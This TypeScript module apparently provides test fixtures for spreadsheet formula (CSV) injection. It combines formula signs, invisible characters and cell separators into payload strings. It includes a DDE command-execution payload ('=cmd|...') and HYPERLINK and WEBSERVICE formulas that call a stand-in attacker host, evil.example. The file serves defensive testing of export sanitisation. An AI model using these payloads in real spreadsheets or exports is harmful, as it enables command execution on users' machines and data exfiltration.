/** The value of each formula, which no text has. */
export const evaluated = '42049';

const signs = [...'=+-@＝＋－＠'];
const skipped = ['', ' ', '\u00A0', '\u200B', '\uFEFF', '\u0001', '"', "'", "''", '\t', '\r', '\n', '\r\n'];
const before = ['', 'a,', 'a;', 'a\t', 'a|', 'a\n', 'a\r\n', 'a";', 'a","', "a;'", ',;|\t'];
const others = [
  ...['=SUM(6007*7)', '@SUM(6007*7)', '=6007*7;=6007*7', '{=6007*7}', '=6007*7\n=6007*7', '=6007*7 '],
  `=cmd|'/C calc 6007*7'!A0`,
  '=HYPERLINK("https://evil.example/";6007*7)',
  '=WEBSERVICE("https://evil.example/?6007*7")',
];

/** Cells that some program takes for a formula: each sign, behind what programs skip, behind what could end a cell. */
export const formulas: readonly string[] = [
  ...before.flatMap((start) =>
    skipped.flatMap((blank) => signs.map((sign) => `${start}${blank}${sign}6007*7`)),
  ),
  ...others,
];
